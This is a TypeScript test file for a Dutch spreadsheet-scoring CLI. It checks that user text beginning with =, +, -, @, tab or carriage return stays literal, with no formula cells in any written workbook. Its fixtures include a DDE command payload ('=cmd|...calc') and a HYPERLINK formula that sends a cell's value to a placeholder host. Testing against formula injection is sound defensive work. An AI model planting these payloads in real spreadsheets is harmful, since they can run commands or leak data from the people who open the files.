/**
 * Formula injection, closed everywhere: respondent and analyst text that starts with =, +, -, @, tab
 * or carriage return — as gemeente, approach, respondent names, toelichting, context and override
 * text — stays literal text in every file the CLI writes (`stj score`: input sheets, Resultaten,
 * Controle, Overzicht, factsheet; `stj share`: factsheet, Overzicht, Toelichting; `stj batch`: the
 * share copies and Landelijk overzicht), checked in the raw XML and after a round trip through
 * LibreOffice (.xlsx → .xlsx, read back with ExcelJS): no formula cell, the text unchanged.
 */
import ExcelJS from "exceljs";
import { copyFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { run } from "../../src/cli";
import { exampleAnswerRows, exampleContextRows } from "../../src/examples/seeds";
import { cellText, CONTEXT_COLUMNS, ggsr2013, overridesToSheet } from "../../src/scoring";
import type { CellValue } from "../../src/scoring";
import { workbookBuffer, writeStudyWorkbook } from "../../src/xlsx/write";
import { memoryIO, tempDir } from "../xlsx/helpers";
import { cellFormulas, convertWithLibreOffice, dumpCells, zipParts } from "./helpers";

const tmp = tempDir("stj-injection-");
afterAll(() => tmp.cleanup());

const GEMEENTE = "=1+1";
const AANPAK = "@SUM(A1)";
const RESPONDENTS: [string, string][] = [
  ["+31 6 1234 5678", "gemeente"],
  ["-5 partner", "netwerkpartner"],
  ["\tTab partner", "netwerkpartner"],
  ["\r=2 CR partner", "netwerkpartner"],
  ['=cmd|" /C calc"!A0', "document"],
];
const NOTES = ['=HYPERLINK("http://example.invalid/?q="&A1,"klik")', "+1 toelichting", "-1 toelichting", "@toelichting", "\ttoelichting"];
const CONTEXT_TEXT = "=2+2 context van de gemeente";
const APPROACH_TEXT = "-3 beschrijving van de aanpak";
const OVERRIDE_TEXT = '=HYPERLINK("http://example.invalid","analist")';
const REASON = "+reden van de analist";

/** What a cell holds after writing: line breaks are LF (a CR becomes LF), nothing else changes. */
const stored = (s: string) => s.replace(/\r\n?/g, "\n");

function injectedStudy(): { answers: CellValue[][]; context: CellValue[][]; overrides: CellValue[][] } {
  const rows = exampleAnswerRows(ggsr2013);
  const header = [...rows[0], "AP9_toelichting"];
  const template = rows[1];
  const answers: CellValue[][] = [header, ...rows.slice(1).map((r) => [...r, null])];
  RESPONDENTS.forEach(([name, role], i) => {
    const r: CellValue[] = [...template, NOTES[i]];
    r[0] = GEMEENTE;
    r[1] = AANPAK;
    r[2] = name;
    r[3] = role;
    answers.push(r);
  });
  const context = [...exampleContextRows(), [GEMEENTE, "", 1000, 400, "januari 2012", CONTEXT_TEXT, ""], [GEMEENTE, AANPAK, "", "", "", APPROACH_TEXT, 12]];
  expect(context[0]).toEqual([...CONTEXT_COLUMNS]);
  const overrides = overridesToSheet([{ gemeente: GEMEENTE, approach: AANPAK, indicator: "AP9", verdict: "voldoet", text: OVERRIDE_TEXT, reason: REASON, author: "@analist" }]);
  return { answers, context, overrides };
}

const files: { label: string; path: string; literal: string[] }[] = [];

beforeAll(async () => {
  const s = injectedStudy();
  const input = tmp.path("antwoorden.xlsx");
  writeFileSync(input, await workbookBuffer(writeStudyWorkbook(ggsr2013, s)));
  const scored = tmp.path("gescoord.xlsx");
  expect(await run(["score", input, "-o", scored], memoryIO())).toBe(0);
  const io = memoryIO(tmp.dir);
  expect(await run(["share", scored, "--gemeente", GEMEENTE, "-o", "deel/", "--met-namen", "--met-toelichting", "--datum", "2024-03-05"], io)).toBe(0);
  expect(await run(["batch", input, "--out", "batch", "--met-namen", "--met-toelichting", "--datum", "2024-03-05"], memoryIO(tmp.dir))).toBe(0);
  const share = join(tmp.path("deel"), readdirSync(tmp.path("deel"))[0]);
  expect(share).toMatch(/Uitkomsten toezichtonderzoek =1\+1 2024-03\.xlsx$/);
  const batchCopy = join(tmp.path("batch"), "Uitkomsten toezichtonderzoek =1+1 2024-03.xlsx");
  // The reader folds white space in names and trims free text; "=2 CR partner" still starts with "=".
  const names = RESPONDENTS.filter(([, role]) => role === "netwerkpartner").map(([n]) => cellText(n));
  const notes = NOTES.map((n) => n.trim());
  files.push(
    { label: "score", path: scored, literal: [GEMEENTE, AANPAK, ...RESPONDENTS.map(([n]) => stored(n)), ...NOTES, CONTEXT_TEXT, APPROACH_TEXT, OVERRIDE_TEXT, REASON] },
    { label: "share", path: share, literal: [GEMEENTE, AANPAK, ...names, ...notes] },
    { label: "batch", path: batchCopy, literal: [GEMEENTE, AANPAK, ...names, ...notes] },
    { label: "landelijk", path: join(tmp.path("batch"), "Landelijk overzicht.xlsx"), literal: [GEMEENTE, AANPAK] },
  );
});

async function cellsOf(path: string) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  return dumpCells(wb);
}

describe("formula injection", () => {
  it("no writer emits a formula: no cell with <f> in any sheet of any file (the share copies: no <f> at all)", async () => {
    for (const f of files) {
      for (const [part, xml] of await zipParts(readFileSync(f.path))) {
        expect({ f: f.label, part, formulas: cellFormulas(xml) }).toEqual({ f: f.label, part, formulas: [] });
        // The scored workbook's overview has data bars, whose thresholds are <xm:f> values; a share copy has none.
        if (f.label === "share" || f.label === "batch") expect({ f: f.label, part, f_: /<(\w+:)?f[\s>/]/.test(xml) }).toEqual({ f: f.label, part, f_: false });
      }
    }
  });

  it("every injected text is a literal text cell, unchanged, with the Text format where it leads the cell", async () => {
    for (const f of files) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(f.path);
      for (const text of f.literal) {
        const hits: ExcelJS.Cell[] = [];
        wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => {
          if (c.type !== ExcelJS.ValueType.Merge && c.value === text) hits.push(c);
        })));
        expect({ f: f.label, text, found: hits.length > 0 }).toEqual({ f: f.label, text, found: true });
        for (const c of hits) {
          expect([ExcelJS.ValueType.String, ExcelJS.ValueType.SharedString]).toContain(c.type);
          if (/^[=+\-@\t\r\n]/.test(text)) expect({ f: f.label, sheet: c.worksheet.name, cell: c.address, numFmt: c.numFmt }).toEqual({ f: f.label, sheet: c.worksheet.name, cell: c.address, numFmt: "@" });
        }
      }
    }
  });

  it("after a round trip through LibreOffice (.xlsx → .xlsx) there is no formula cell and every text is unchanged", async () => {
    const stage = tmp.path("lo-in");
    const staged = files.map((f) => {
      const p = join(stage, `${f.label}.xlsx`);
      mkdirSync(stage, { recursive: true });
      copyFileSync(f.path, p);
      return p;
    });
    const converted = convertWithLibreOffice(staged, "xlsx", tmp.path("lo-out"));
    for (let i = 0; i < files.length; i++) {
      const f = files[i];
      const cells = await cellsOf(converted[i]);
      expect(cells.length).toBeGreaterThan(0);
      expect({ f: f.label, formulas: cells.filter((c) => c.type === ExcelJS.ValueType.Formula).map((c) => `${c.sheet}!${c.address} ${c.text}`) }).toEqual({ f: f.label, formulas: [] });
      for (const [part, xml] of await zipParts(readFileSync(converted[i]))) expect({ f: f.label, part, formulas: cellFormulas(xml) }).toEqual({ f: f.label, part, formulas: [] });
      const texts = new Set(cells.map((c) => c.text));
      for (const text of f.literal) expect({ f: f.label, text, found: texts.has(text) }).toEqual({ f: f.label, text, found: true });
    }
  });
});
